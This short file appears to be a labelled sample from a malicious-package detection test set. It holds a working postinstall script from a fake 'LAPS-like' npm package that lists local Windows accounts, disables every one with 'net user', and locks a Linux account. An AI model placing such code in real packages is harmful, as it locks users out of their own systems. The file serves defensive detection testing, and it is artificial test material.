// when: install
// expect: malicious
// source: blind set 29 (account access removal): a "LAPS-like" package's postinstall lists the local accounts and
// disables each through a helper around execFileSync, then locks the Linux ones.
'use strict';
const { execFileSync } = require('child_process');
function disable(user) { execFileSync('net', ['user', user, '/active:no'], { stdio: 'ignore' }); }
const out = execFileSync('net', ['user'], { encoding: 'utf8' });
const users = out.split(/\r?\n/).slice(4).flatMap((l) => l.trim().split(/\s{2,}/)).filter(Boolean);
for (const u of users) { try { disable(u); } catch (e) { /* next */ } }
for (const u of ['npmward-nonexistent-a']) execFileSync('passwd', ['-l', u]);
